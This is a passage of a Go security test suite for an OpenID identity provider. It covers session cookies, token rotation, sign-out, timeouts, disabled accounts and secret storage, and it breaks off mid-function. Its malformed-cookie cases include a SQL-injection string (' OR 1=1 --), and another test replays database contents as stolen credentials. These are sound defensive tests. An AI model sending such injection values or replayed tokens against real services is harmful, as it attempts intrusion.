package main

import (
	"context"
	"crypto/ecdsa"
	"crypto/ed25519"
	"crypto/elliptic"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"log/slog"
	"net/http"
	"net/url"
	"os"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"testing/synctest"
	"time"
	"unicode/utf8"

	"github.com/go-jose/go-jose/v4"

	"github.com/harmony/id/account"
	"github.com/harmony/id/db/dbtest"
	"github.com/harmony/id/idp"
	"github.com/harmony/id/secret"
)

// The security cases of sessions (SES), of what is stored (ST), of keys (CR) and
// of the log (LG), as far as a password leads.

// holding is a new browser with somebody's session cookie.
func (w *world) holding(h *house, token string) *browser {
	w.t.Helper()
	b := w.browserAt(h, "192.0.2.66")
	b.plant(sessionCookieName, token)
	return b
}

// session is a browser's session cookie.
func (b *browser) session() string { return b.cookie(sessionCookieName) }

// SES-01: every cookie that any page sets.
func TestSES01_Cookies(t *testing.T) {
	onOne(t, func(t *testing.T, w *world) {
		b := w.newBrowser()
		f := w.acme.begin("login_hint", adaEmail)
		pages := []*page{b.once(http.MethodGet, f.url(), nil, nil)}
		next := func(p *page) *page { pages = append(pages, p); return p }
		form := next(b.get(next(b.once(http.MethodGet, f.url(), nil, nil)).header.Get("Location"))).form("/login")
		form.Set("email", adaEmail)
		form.Set("password", "wrong")
		next(b.once(http.MethodPost, "/login", form, nil)).wantStatus(http.StatusUnprocessableEntity)
		form.Set("password", adaPassword)
		next(b.once(http.MethodGet, next(b.once(http.MethodPost, "/login", form, nil)).header.Get("Location"), nil, nil))
		for range 12 { // people in turn, so that the browser remembers as many as it can
			for _, who := range [][2]string{{adaEmail, adaPassword}, {bobEmail, bobPassword}} {
				w.exec(`DELETE FROM throttles`)
				next(b.attempt(who[0], who[1])).wantStatus(http.StatusSeeOther)
			}
		}
		for i := range 12 {
			email := fmt.Sprintf("p%d@example.com", i)
			w.weaken(w.person(email, "").ID, "right")
			w.exec(`UPDATE users SET password_changed_at = 1 WHERE email = $1`, email)
			next(b.attempt(email, "right")).wantStatus(http.StatusSeeOther)
		}
		for _, path := range []string{"/", "/login", "/logout", "/preferences/security", "/nowhere", "/jwks", "/.well-known/openid-configuration", "/static/" + "x"} {
			next(b.once(http.MethodGet, path, nil, nil))
		}
		b.attempt(adaEmail, adaPassword).wantStatus(http.StatusSeeOther)
		next(b.once(http.MethodPost, "/preferences/security/reset-email", url.Values{}, nil)).wantStatus(http.StatusSeeOther)
		b.get("/preferences/security").wantText("We’ve sent a password-reset link to " + adaEmail)
		next(b.once(http.MethodPost, "/logout", url.Values{}, nil)).wantStatus(http.StatusSeeOther)

		seen := map[string]int{}
		for _, p := range pages {
			for _, line := range p.header.Values("Set-Cookie") {
				c := must(http.ParseSetCookie(line))(t)
				name := c.Name
				if strings.HasPrefix(name, "__Host-harmony-request-") {
					name = "__Host-harmony-request"
				}
				seen[name]++
				if !strings.HasPrefix(c.Name, "__Host-") || !c.Secure || !c.HttpOnly || c.SameSite != http.SameSiteLaxMode || c.Path != "/" || c.Domain != "" || len(line) > 4096 {
					t.Errorf("%s (%d bytes)", line, len(line))
				}
				plain, _ := base64.RawURLEncoding.DecodeString(strings.TrimPrefix(strings.TrimPrefix(c.Value, "hse_"), "hbr_"))
				said := must(url.QueryUnescape(c.Value))(t)
				for _, personal := range []string{adaEmail, bobEmail, w.ada.ID, "example", "192.0.2."} {
					if strings.Contains(said, personal) || strings.Contains(string(plain), personal) {
						t.Errorf("%s says %s", line, personal)
					}
				}
			}
			if p.status/100 == 2 && strings.Contains(p.header.Get("Cache-Control"), "public") && len(p.header.Values("Set-Cookie")) > 0 {
				t.Errorf("%s: a cookie that caches keep", p.url)
			}
		}
		for _, name := range []string{"session", "known", "request", "notice", "farewell"} {
			if seen["__Host-harmony-"+name] == 0 {
				t.Errorf("no %s cookie among %v", name, seen)
			}
		}
		if len(seen) != 5 {
			t.Errorf("cookies %v", seen)
		}
	})
}

// SES-03: a new value at every step, and the one before is dead at once, on every
// replica.
func TestSES03_NewTokenEachTime(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		other := w.newReplica()
		b := w.newBrowser()
		b.get(w.acme.begin().url())
		var old []string
		step := func(what string) {
			t.Helper()
			now := b.session()
			if now == "" || slices.Contains(old, now) {
				t.Fatalf("%s: the session's cookie is %q", what, now)
			}
			if !w.holding(w.house, now).signedIn() || !w.holding(other, now).signedIn() {
				t.Errorf("%s: not signed in everywhere", what)
			}
			for i, token := range old {
				if w.holding(w.house, token).signedIn() || w.holding(other, token).signedIn() {
					t.Errorf("%s: token %d lives on", what, i)
				}
			}
			old = append(old, now)
		}
		b.signIn(adaEmail, adaPassword)
		step("password")
		time.Sleep(time.Second)
		f := w.acme.begin("prompt", "login")
		f.code(b.fill(b.get(f.url()), adaEmail, adaPassword))
		step("proved again")
		b.get("/login?another=1").want(http.StatusOK, "/login")
		b.attempt(bobEmail, bobPassword).wantStatus(http.StatusSeeOther)
		step("somebody else")
		b.post("/logout", url.Values{}).want(http.StatusOK, "/logout")
		if b.session() != "" {
			t.Error("the cookie stays after sign-out")
		}
		b.signIn(adaEmail, adaPassword)
		step("after sign-out")
	})
}

// SES-04: signed out is signed out, everywhere and at once.
func TestSES04_SignedOut(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		other := w.newReplica()
		b := w.newBrowser()
		b.signIn(adaEmail, adaPassword)
		token := b.session()
		for _, h := range []*house{w.house, other} {
			if !w.holding(h, token).signedIn() {
				t.Fatal("not signed in")
			}
		}
		b.post("/logout", url.Values{})
		for _, h := range []*house{other, w.house} {
			c := w.holding(h, token)
			if c.signedIn() {
				t.Error("the cookie lives on")
			}
			f := w.acme.begin("prompt", "none")
			f.wantError(c.get(f.url()), "login_required")
		}
	})
}

// SES-04: a sign-out and uses of the session at once: none of them revives it.
func TestSES04_SignOutRace(t *testing.T) {
	atOnce(t, func(t *testing.T, w *world, pick func(int) *house) {
		for range 3 {
			b := w.newBrowser()
			b.signIn(adaEmail, adaPassword)
			token := b.session()
			w.exec(`UPDATE sessions SET seen_at = seen_at - 120000000`) // every use writes
			release(func(i int) {
				c := w.holding(pick(i), token)
				switch i % 4 {
				case 0:
					c.once(http.MethodPost, "/logout", url.Values{}, nil).wantStatus(http.StatusSeeOther)
				case 1:
					c.attempt(adaEmail, "wrong")
				default:
					c.once(http.MethodGet, w.acme.begin().url(), nil, nil)
				}
			})
			w.exec(`DELETE FROM throttles`)
			if w.holding(w.house, token).signedIn() {
				t.Error("the session lives on")
			}
		}
		if n := w.count("events WHERE kind = 'signed_out'"); n != 3 {
			t.Errorf("%d sign-outs are recorded of 3", n)
		}
	})
}

// SES-05: a session that nobody uses ends after three days, a busy one after
// thirty, also one that only workspaces use.
func TestSES05_IdleAndAbsolute(t *testing.T) {
	for how, use := range map[string]func(w *world, b *browser) bool{
		"pages": func(_ *world, b *browser) bool { return b.signedIn() },
		"workspaces": func(w *world, b *browser) bool {
			f := w.acme.begin("prompt", "none")
			return f.answer(b.get(f.url())).Has("code")
		},
	} {
		t.Run(how, func(t *testing.T) {
			onEach(t, func(t *testing.T, w *world) {
				b := w.newBrowser()
				b.signIn(adaEmail, adaPassword)
				token := b.session()
				time.Sleep(72*time.Hour - time.Second)
				if !use(w, w.holding(w.house, token)) {
					t.Error("dead before it was idle for three days")
				}
				time.Sleep(72*time.Hour + time.Second)
				if use(w, w.holding(w.house, token)) {
					t.Error("alive after it was idle for three days")
				}
				if use(w, w.holding(w.house, token)) {
					t.Error("a try revives it")
				}

				b.signIn(adaEmail, adaPassword)
				token = b.session()
				for day := range 29 {
					time.Sleep(24 * time.Hour)
					if !use(w, w.holding(w.house, token)) {
						t.Fatalf("dead on day %d", day)
					}
				}
				time.Sleep(24*time.Hour - time.Second)
				if !use(w, w.holding(w.house, token)) {
					t.Error("dead before thirty days")
				}
				time.Sleep(2 * time.Second)
				if use(w, w.holding(w.house, token)) {
					t.Error("alive after thirty days")
				}
			})
		})
	}
}

// SES-05: house-keeping takes what is dead, and only that.
func TestSES05_HouseKeeping(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		clean := func() {
			t.Helper()
			if err := w.house.clean(t.Context()); err != nil {
				t.Fatal(err)
			}
		}
		b, out := w.newBrowser(), w.newBrowser()
		b.signIn(adaEmail, adaPassword)
		out.signIn(bobEmail, bobPassword)
		out.post("/logout", url.Values{})
		for range 10 {
			w.newBrowser().attempt(bobEmail, "guess")
		}
		clean()
		w.newBrowser().attempt(bobEmail, bobPassword).wantStatus(http.StatusTooManyRequests)
		if n := w.count("sessions"); n != 2 {
			t.Errorf("%d sessions, want 2", n)
		}
		time.Sleep(25 * time.Hour)
		clean()
		if n, m := w.count("sessions"), w.count("throttles"); n != 1 || m != 0 {
			t.Errorf("%d sessions and %d throttles, want 1 and none", n, m)
		}
		if !b.signedIn() {
			t.Error("a live session is gone")
		}
		time.Sleep(31 * 24 * time.Hour)
		clean()
		if n := w.count("sessions"); n != 0 {
			t.Errorf("%d sessions, want none", n)
		}
	})
}

// SES-10: a person who is disabled is nobody, from now on, everywhere; one who is
// enabled again has to sign in again.
func TestSES10_Disabled(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		other := w.newReplica()
		b := w.newBrowser()
		k := b.connect(w.acme, adaEmail, adaPassword)
		open := w.browserAt(w.house, "192.0.2.20")
		f := w.acme.begin()
		form := open.arrive(f)
		resumed := w.browserAt(w.house, "192.0.2.21") // has signed in, and not gone on yet
		g := w.acme.begin()
		resume := resumed.submit(resumed.arrive(g), adaEmail, adaPassword)
		_, code := b.again(w.globex)
		tokens := []string{b.session(), resumed.session()}

		check := func(when string) {
			t.Helper()
			for _, token := range tokens {
				for _, h := range []*house{w.house, other} {
					if w.holding(h, token).signedIn() {
						t.Errorf("%s: signed in", when)
					}
				}
			}
			w.dead(w.acme, k)
			w.globex.begin().redeem(code).refused(http.StatusBadRequest, "invalid_grant")
			resumed.get(resume).want(http.StatusOK, "/login")
		}
		if err := w.house.accounts.DisableUser(t.Context(), w.ada.ID, supporter); err != nil {
			t.Fatal(err)
		}
		check("disabled")
		p := open.fill(form, adaEmail, adaPassword)
		p.want(http.StatusUnprocessableEntity, "/login")
		if err := w.house.accounts.EnableUser(t.Context(), w.ada.ID, supporter); err != nil {
			t.Fatal(err)
		}
		check("enabled again")
		f.code(open.fill(p, adaEmail, adaPassword))
	})
}

// SES-10: the row of the person decides, whatever became of their sessions.
func TestSES10_DisabledDecides(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		b := w.newBrowser()
		b.signIn(adaEmail, adaPassword)
		w.exec(`UPDATE users SET disabled_at = 1 WHERE id = $1`, w.ada.ID)
		if b.signedIn() {
			t.Error("signed in")
		}
		f := w.acme.begin("prompt", "none")
		f.wantError(b.get(f.url()), "login_required")
	})
}

// SES-10, I4: what changes while the password is being hashed counts, for a hash
// of today and for one of yesterday, in a new browser and in one that the person
// is signed in with.
func TestSES10_DecidedLate(t *testing.T) {
	for what, change := range map[string]string{
		"disabled":         `UPDATE users SET disabled_at = 1 WHERE id = $1`,
		"deleted":          `DELETE FROM users WHERE id = $1`,
		"another password": `UPDATE users SET password_hash = '` + weak("the new one") + `', password_changed_at = password_changed_at + 1 WHERE id = $1`,
	} {
		t.Run(strings.ReplaceAll(what, " ", "_"), func(t *testing.T) {
			dbtest.Each(t, func(t *testing.T, engine string) {
				synctest.Test(t, func(t *testing.T) {
					var between func()
					w := wellBehaved(t, engine, watch("INSERT INTO throttles", &between))
					for i, c := range []struct{ old, in bool }{{false, false}, {false, true}, {true, false}, {true, true}} {
						email := fmt.Sprintf("late%d@example.com", i)
						u := w.person(email, adaPassword)
						b := w.browserAt(w.house, fmt.Sprintf("192.0.2.%d", 100+i))
						if c.in {
							b.signIn(email, adaPassword)
						}
						if c.old {
							w.weaken(u.ID, adaPassword)
						}
						before := b.session()
						between = func() { must(w.db.Exec(context.Background(), change, u.ID))(t) }
						p := b.attempt(email, adaPassword)
						if p.status != http.StatusUnprocessableEntity || len(p.header.Values("Set-Cookie")) > 0 || b.session() != before {
							t.Errorf("%+v: got %d", c, p.status)
						}
						if between != nil {
							t.Fatal("nothing happened in between")
						}
						want := 0
						if c.in && what != "deleted" {
							want = 1 // the one that there was: this is the row alone
						}
						if n := w.count("sessions WHERE user_id = $1 AND ended_at IS NULL", u.ID); n != want {
							t.Errorf("%+v: %d sessions, want %d", c, n, want)
						}
						if what == "another password" {
							w.browserAt(w.house, "192.0.2.99").attempt(email, "the new one").wantStatus(http.StatusSeeOther)
						}
					}
				})
			})
		})
	}
}

// SES-11: one browser, two people, one after the other: nothing of the first is
// the second's.
func TestSES11_TwoPeople(t *testing.T) {
	for _, signOut := range []bool{true, false} {
		t.Run(map[bool]string{true: "signed_out", false: "not"}[signOut], func(t *testing.T) {
			onEach(t, func(t *testing.T, w *world) {
				b := w.newBrowser()
				k := b.connect(w.acme, adaEmail, adaPassword)
				time.Sleep(time.Second)
				f := w.acme.begin("prompt", "login")
				tab := b.arrive(f) // a tab that Ada left open
				if signOut {
					b.post("/logout", url.Values{})
				}
				b.get("/login?another=1").want(http.StatusOK, "/login")
				b.attempt(bobEmail, bobPassword).wantStatus(http.StatusSeeOther)
				if p := b.get("/preferences/security"); strings.Contains(p.body, "Ada") || strings.Contains(p.body, adaEmail) {
					t.Error("Bob's page shows Ada")
				}
				p := b.get("/authorize/resume?id=" + strings.TrimPrefix(tab.form("/login").Get("to"), "/authorize/resume?id="))
				k2 := f.redeem(f.code(p)).ok()
				if c := k2.claims(); c["sub"] != w.bob.ID || c["sid"] == k.claims()["sid"] {
					t.Errorf("the workspace gets %v", c)
				}
				if w.userinfo(k2.AccessToken)["email"] != bobEmail {
					t.Error("somebody else's claims")
				}
				w.dead(w.acme, k) // Ada's session ended, with all it led to
				if p := b.get("/end_session"); strings.Contains(p.body, "Ada") {
					t.Error("the sign-out page shows Ada")
				}
			})
		})
	}
}

// SES-12: sessions outlive the provider.
func TestSES12_Restart(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		b := w.newBrowser()
		k := b.connect(w.acme, adaEmail, adaPassword)
		w.house = w.newReplica()
		if !b.at(w.house).signedIn() || w.userinfo(k.AccessToken) == nil {
			t.Error("signed out by a restart")
		}
		w.acme.refresh(k.RefreshToken).ok()
	})
}

// SES-13: a cookie that is not exactly ours is none.
func TestSES13_BadCookies(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		b := w.newBrowser()
		b.signIn(adaEmail, adaPassword)
		token, known := b.session(), b.cookie("__Host-harmony-known")
		send := func(cookie string) *page {
			return w.newBrowser().once(http.MethodGet, "/preferences/security", nil, http.Header{"Cookie": {cookie}})
		}
		const name = sessionCookieName + "="
		send(name + token).wantStatus(http.StatusOK)
		bad := map[string]string{
			"none": "", "empty": name, "longer": name + token + "A", "shorter": name + token[:46], "other prefix": name + "hxx_" + token[4:], "no prefix": name + token[4:],
			"twice": name + token + "; " + name + token, "two": name + token + "; " + name + flip(token, 20), "two, the other first": name + flip(token, 20) + "; " + name + token,
			"8 KiB": name + strings.Repeat("A", 8192), "right and 8 KiB": name + token + strings.Repeat("A", 8192), "other name": "harmony-session=" + token,
			"lower case": strings.ToLower(name) + token, "padded": name + token + "=", "encoded": name + "%68" + token[1:], "SQL": name + "' OR 1=1 --", "stars": name + "hse_*",
			"the id": name + w.sessionID(), "known": name + known, "NUL": name + "hse_\x00", "not UTF-8": name + "\xff\xfe", "spaces": name + "hse_ " + token[4:],
			"hex of the hash": name + hex.EncodeToString(secret.Hash(token)), "hash as a token": name + "hse_" + base64.RawURLEncoding.EncodeToString(secret.Hash(token)),
		}
		for i := range token {
			bad[fmt.Sprint("bit of character ", i)] = name + token[:i] + string(token[i]^1) + token[i+1:]
		}
		for what, cookie := range bad {
			if p := send(cookie); p.status != http.StatusSeeOther || !strings.HasPrefix(p.header.Get("Location"), "/login?") {
				t.Errorf("%s: %d to %s", what, p.status, p.header.Get("Location"))
			}
		}
		send(name + `"` + token + `"`) // quoted, as RFC 6265 allows: one or the other, and no 500
		for _, cookie := range []string{"__Host-harmony-request-abc=" + strings.Repeat("A", 8192), "__Host-harmony-browser=\xff", "__Host-harmony-known=\xff", "__Host-harmony-known=" + strings.Repeat("A", 8192), ";;;=;", "=", strings.Repeat(";", 4000)} {
			if p := w.newBrowser().once(http.MethodGet, w.acme.begin().url(), nil, http.Header{"Cookie": {cookie}}); p.status != http.StatusSeeOther {
				t.Errorf("%.40q: %d", cookie, p.status)
			}
		}
	})
}

func (w *world) sessionID() (id string) {
	w.t.Helper()
	if err := w.db.QueryRow(w.t.Context(), `SELECT id FROM sessions LIMIT 1`).Scan(&id); err != nil {
		w.t.Fatal(err)
	}
	return id
}

// SES-15: a browser's session that was idle for too long stays dead, whatever the
// workspaces do with the tokens it led to.
func TestSES15_IdleSessionStaysDead(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		b := w.newBrowser()
		k := b.connect(w.acme, adaEmail, adaPassword)
		token := b.session()
		for range 4 { // the workspace goes on; nobody uses the browser
			time.Sleep(20 * time.Hour)
			k = w.acme.refresh(k.RefreshToken).ok()
			w.userinfo(k.AccessToken)
		}
		for range 2 {
			f := w.acme.begin("prompt", "none")
			f.wantError(w.holding(w.house, token).get(f.url()), "login_required")
			w.acme.refresh(k.RefreshToken).ok()
		}
		if w.holding(w.house, token).signedIn() {
			t.Error("revived")
		}
	})
}

// OP-06: replicas hold nothing: a sign-in that one began the other ends.
func TestOP06_OtherReplicaGoesOn(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		other := w.newReplica()
		b := w.newBrowser()
		f := w.acme.begin()
		p := b.once(http.MethodGet, f.url(), nil, nil)
		p = b.at(other).follow(p)
		p.want(http.StatusOK, "/login")
		to := b.submit(p, adaEmail, adaPassword) // at the first
		code := f.code(b.at(other).get(to))
		k := f.redeem(code).ok() // at the first
		w.house = other
		if w.userinfo(k.AccessToken)["email"] != adaEmail {
			t.Error("no claims at the other replica")
		}
		w.acme.refresh(k.RefreshToken).ok()
	})
}

// A past is a day in the life of a provider, with every secret that came up.
type past struct {
	w       *world
	browser *browser
	secrets map[string]string
	keys    map[string][][]byte // the secret numbers of the signing keys
}

// live does everything once.
func (w *world) live() *past {
	w.t.Helper()
	p := &past{w: w, secrets: map[string]string{"password": adaPassword, "a wrong password": "not her password", "client secret": w.acme.secret}, keys: map[string][][]byte{}}
	waiting := w.browserAt(w.house, "192.0.2.44")
	waiting.arrive(w.acme.begin())
	b := w.newBrowser()
	p.browser = b
	f := w.acme.begin("login_hint", adaEmail)
	b.fill(b.arrive(f), adaEmail, "not her password").want(http.StatusUnprocessableEntity, "/login")
	k := b.connect(w.acme, adaEmail, adaPassword)
	k2 := w.globex.refresh(b.connect(w.globex, adaEmail, adaPassword).RefreshToken).ok()
	w.userinfo(k.AccessToken)
	_, code := b.again(w.acme)
	f2, spent := b.again(w.acme)
	f2.redeem(spent).ok()
	out := w.browserAt(w.house, "192.0.2.45")
	k3 := out.connect(w.acme, bobEmail, bobPassword)
	p.secrets["ended session"] = out.session()
	out.get("/end_session?" + url.Values{"id_token_hint": {k3.IDToken}, "post_logout_redirect_uri": {farewell}, "state": {"state of the farewell"}}.Encode())
	for what, s := range map[string]string{
		"code": code, "spent code": spent, "access token": k.AccessToken, "refresh token": k.RefreshToken, "rotated refresh token": k2.RefreshToken,
		"ID token": k.IDToken, "ID token hint": k3.IDToken,
		"session": b.cookie(sessionCookieName), "known": b.cookie("__Host-harmony-known"), "browser": waiting.waits(),
	} {
		if s == "" {
			w.t.Fatalf("no %s", what)
		}
		p.secrets[what] = s
	}
	rows := must(w.db.Query(w.t.Context(), `SELECT id, private_sealed FROM signing_keys`))(w.t)
	defer rows.Close()
	for rows.Next() {
		var id string
		var sealed []byte
		must(1, rows.Scan(&id, &sealed))(w.t)
		der := must(w.ring.Box("signing key").Open(sealed, "signing_keys/"+id))(w.t)
		switch k := must(x509.ParsePKCS8PrivateKey(der))(w.t).(type) {
		case *rsa.PrivateKey:
			p.keys[id] = [][]byte{k.D.Bytes()[:32], k.Primes[0].Bytes()[:32], k.Primes[1].Bytes()[:32]}
		case *ecdsa.PrivateKey:
			p.keys[id] = [][]byte{must(k.Bytes())(w.t)}
		case ed25519.PrivateKey:
			p.keys[id] = [][]byte{k.Seed()}
		}
	}
	must(1, rows.Err())(w.t)
	return p
}

// random is the part of a secret that is one: the rest of a token is its kind
// and, for some, the id of a row.
func random(s string) string {
	if tokenRE.MatchString(s+strings.Repeat("A", 44)) && len(s) >= 43 {
		return s[len(s)-43:]
	}
	return s
}

// forms are the ways in which a secret could stand somewhere.
func forms(s string) map[string]string {
	r := random(s)
	out := map[string]string{"as it is": r}
	add := func(how string, b []byte) {
		out[how+"raw"] = string(b)
		out[how+"hex"] = hex.EncodeToString(b)
		out[how+"HEX"] = strings.ToUpper(out[how+"hex"])
		out[how+"base32"] = base32.StdEncoding.WithPadding(base32.NoPadding).EncodeToString(b)
		out[how+"base64"] = base64.RawStdEncoding.EncodeToString(b)[:len(b)]
		out[how+"base64url"] = base64.RawURLEncoding.EncodeToString(b)[:len(b)]
	}
	add("text ", []byte(r))
	if b, err := base64.RawURLEncoding.DecodeString(r); err == nil && len(b) >= 16 {
		add("bytes ", b)
	}
	return out
}

// ST-01, SES-02, TK-13, CR-03: the database has no secret in any form, nor has
// SQLite's file, with what was deleted, or its log.
func TestST01_NothingStored(t *testing.T) {
	onEach(t, func(t *testing.T, w *world) {
		p := w.live()
		stored := map[string]string{"database": w.dump()}
		if w.db.Engine() == "sqlite" {
			var n int
			var name, file string
			must(1, w.db.QueryRow(t.Context(), `PRAGMA database_list`).Scan(&n, &name, &file))(t)
			for _, suffix := range []string{"", "-wal"} {
				stored["file"+suffix] = string(must(os.ReadFile(file + suffix))(t))
			}
			for _, suffix := range []string{"", "-wal", "-shm"} {
				if mode := must(os.Stat(file + suffix))(t).Mode().Perm(); mode != 0o600 {
					t.Errorf("the file %s can be read by others: %v", suffix, mode)
				}
			}
		}
		for where, text := range stored {
			if where == "database" && !strings.Contains(text, hex.EncodeToString(secret.Hash(p.secrets["session"]))) {
				t.Fatal("what is searched does not have what it should")
			}
			for what, s := range p.secrets {
				for how, form := range forms(s) {
					if strings.Contains(text, form) {
						t.Errorf("the %s has the %s, %s", where, what, how)
					}
				}
			}
			for id, parts := range p.keys {
				for _, part := range parts {
					for how, form := range forms(string(part)) {
						if strings.Contains(text, form) {
							t.Errorf("the %s has part of the private key %s, %s", where, id, how)
						}
					}
				}
			}
			for _, mark := range []string{"PRIVATE KEY", `"d":`, `"p":`, `"dp":`} {
				if strings.Contains(text, mark) {
					t.Errorf("the %s has %s", where, mark)
				}
			}
		}
	})
}

// ST-02: whoever has the database and not the keys gets in nowhere.
func TestST02_StoredOpensNothing(t *testing.T) {
	onOne(t, func(t *testing.T, w *world) {
		p := w.live()
		ada, bob := w.hash(w.ada.ID), w.hash(w.bob.ID)
		values := map[string]bool{}
		for _, v := range strings.Fields(w.dump()) {
			values[v] = true
			if b, err := hex.DecodeString(v); err == nil && len(b) >= 16 {
				e := base64.RawURLEncoding.EncodeToString(b)
				for _, prefix := range []string{"", "hse_", "hac_", "hrt_", "hat_", "hbr_", "hcs_"} {
					values[prefix+e] = true
				}
			}
		}
		if len(values) < 100 {
			t.Fatalf("only %d values", len(values))
		}
		f := w.acme.begin()
		ids := grantIDs(t, w)
		for v := range values {
			if strings.ContainsAny(v, ";,\"\\ \x00") || !utf8.ValidString(v) || len(v) > 4000 || strings.ContainsFunc(v, func(r rune) bool { return r < 0x21 || r > 0x7e }) {
				continue // cannot be sent as it is
			}
			if w.holding(w.house, v).signedIn() {
				t.Errorf("%q is a session", v)
			}
			if w.bearer(http.MethodGet, http.Header{"Authorization": {"Bearer " + v}}, nil).status != http.StatusUnauthorized {
				t.Errorf("%q is an access token", v)
			}
			tries := []string{v}
			for _, id := range ids {
				tries = append(tries, "hac_"+id+"_"+v, "hrt_"+id+"_"+v)
			}
			for _, one := range tries {
				if len(one) > 100 {
					continue
				}
				f.redeem(one).refused(http.StatusBadRequest, "invalid_grant")
				w.acme.refresh(one).refused(http.StatusBadRequest, "invalid_grant")
			}
			stolen := rp{w: w, id: "acme", secret: v, auth: idp.AuthBasic}
			stolen.refresh(p.secrets["refresh token"]).refused(http.StatusUnauthorized, "invalid_client")
			// A request that waits opens only in its browser.
			b := w.newBrowser()
			for _, request := range requestIDs(t, w) {
				b.plant("__Host-harmony-request-"+request, v)
				b.once(http.MethodGet, "/authorize/resume?id="+request, nil, nil).wantStatus(http.StatusBadRequest)
			}
		}
		for _, hash := range []string{ada, bob, strings.Split(ada, "$")[5]} {
			w.newBrowser().attempt(adaEmail, hash).wantStatus(http.StatusUnprocessableEntity)
		}
		// And all of that harmed nobody.
		if !p.browser.signedIn() {
			t.Error("signed out by a thief")
		}
		w.acme.refresh(p.secrets["refresh token"]).ok()
	})
}

func grantIDs(t *testing.T, w *world) []string   { return column(t, w, `SELECT id FROM grants`) }
func requestIDs(t *testing.T, w *world) []string { return column(t, w, `SELECT id FROM auth_requests`) }

func column(t testing.TB, w *world, query string) (out []string) {
	t.Helper()
	rows := must(w.db.Query(t.Context(), query))(t)
	defer rows.Close()
	for rows.Next() {
		var s string
		must(1, rows.Scan(&s))(t)
		out = append(out, s)
	}
	if len(out) == 0 || rows.Err() != nil {
		t.Fatalf("%s: %d rows, %v", query, len(out), rows.Err())
	}
	return out
}

// ST-06: without a database nothing is granted and nothing is told, and the
// provider is back when the database is.
func TestST06_NoDatabase(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, engine string) {
		synctest.Test(t, func(t *testing.T) {
			w := newWorld(t, engine)
			b := w.newBrowser()
			k := b.connect(w.acme, adaEmail, adaPassword)
			f, code := b.again(w.acme)
			tables := []string{"users", "sessions", "throttles", "events", "clients", "auth_requests", "grants", "settings"}
			for _, one := range append([][]string{tables}, [][]string{{"users"}, {"throttles"}, {"events"}, {"sessions"}}...) {
				for _, table := range one {
					w.exec(`ALTER TABLE ` + table + ` RENAME TO gone_` + table)
				}
				time.Sleep(2 * time.Second)
				c := w.newBrowser()
				refuse := func(what string, p *page) {
					t.Helper()
					if p.status/100 != 5 || p.header.Get("Location") != "" || len(p.header.Values("Set-Cookie")) != 0 && !strings.Contains(p.header.Get("Set-Cookie"), "-request-") {
						t.Errorf("%v, %s: %d %v", one, what, p.status, p.header)
					}
					if inside := regexp.MustCompile(`(?i)sqlite|postgres|pgx|gone_|no such|relation|SELECT|INSERT|UPDATE `).FindString(p.body); inside != "" {
						t.Errorf("%v, %s tells %q", one, what, inside)
					}
				}
				refuse("sign-in", c.attempt(adaEmail, adaPassword))
				if one[0] != "throttles" && one[0] != "events" {
					refuse("account page", b.once(http.MethodGet, "/preferences/security", nil, nil))
					refuse("authorize", b.once(http.MethodGet, f.url(), nil, nil))
					refuse("userinfo", w.bearer(http.MethodGet, http.Header{"Authorization": {"Bearer " + k.AccessToken}}, nil))
					if one[0] != "users" || len(one) > 1 { // which signing out does not need
						refuse("sign-out", b.once(http.MethodPost, "/logout", url.Values{}, nil))
					}
					if k := f.redeem(code); k.status/100 != 5 || k.Error != "server_error" {
						t.Errorf("%v, code: %d %s", one, k.status, k.raw)
					}
					if k := w.acme.refresh(k.RefreshToken); k.status/100 != 5 || k.Error != "server_error" {
						t.Errorf("%v, refresh: %d %s", one, k.status, k.raw)
					}
				}
				if one[0] == "events" {
					refuse("sign-out", b.once(http.MethodPost, "/logout", url.Values{}, nil)) // all or nothing
				}
				for _, table := range one {
					w.exec(`ALTER TABLE gone_` + table + ` RENAME TO ` + table)
				}
				if !b.signedIn() {
					t.Fatalf("%v: the session is gone", one)
				}
			}
			f.redeem(code).ok()
			w.acme.refresh(k.RefreshToken).ok()
			w.newBrowser().signIn(adaEmail, adaPassword)
		})
	})
}

// ST-06: the same when the connection is gone for good.
func TestST06_ConnectionGone(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, engine string) {
		synctest.Test(t, func(t *testing.T) {
			w := newWorld(t, engine)
			b := w.newBrowser()
			k := b.connect(w.acme, adaEmail, adaPassword)
			_, code := b.again(w.acme)
			must(1, w.db.Close())(t)
			time.Sleep(2 * time.Second)
			for what, p := range map[string]*page{
				"sign-in":      w.newBrowser().attempt(adaEmail, adaPassword),
				"account page": b.once(http.MethodGet, "/preferences/security", nil, nil),
				"authorize":    b.once(http.MethodGet, w.acme.begin().url(), nil, nil),
				"sign-out":     b.once(http.MethodPost, "/logout", url.Values{}, nil),
				"userinfo":     w.bearer(http.MethodGet, http.Header{"Authorization": {"Bearer " + k.AccessToken}}, nil),
			} {
				if p.status/100 != 5 || strings.Contains(p.body, "sql") || strings.Contains(p.body, "closed") || p.header.Get("Location") != "" {
					t.Errorf("%s: %d %v\n%s", what, p.status, p.header, p.body)
				}
			}
			if k := w.acme.begin().redeem(code); k.status/100 != 5 || k.Error != "server_error" {
				t.Errorf("code: %s", k.raw)
			}
		})
	})
}

// ST-07: providers that start together on an empty database have one set of keys.
func TestST07_StartTogether(t *testing.T) {
	dbtest.Each(t, func(t *testing.T, engine string) {
		for range 2 {
			w := &world{t: t, db: dbtest.New(t, engine), ring: must(secret.ParseRing(secret.GenerateKeyFile()))(t), log: &lockedBuffer{}}
			var houses [racers]*house
			var failed atomic.Int64
			release(func(i int) {
				if i >= 6 {
					return // each makes an RSA key
				}
				h, err := newHouse(t.Context(), w.db, w.ring, houseConfig{
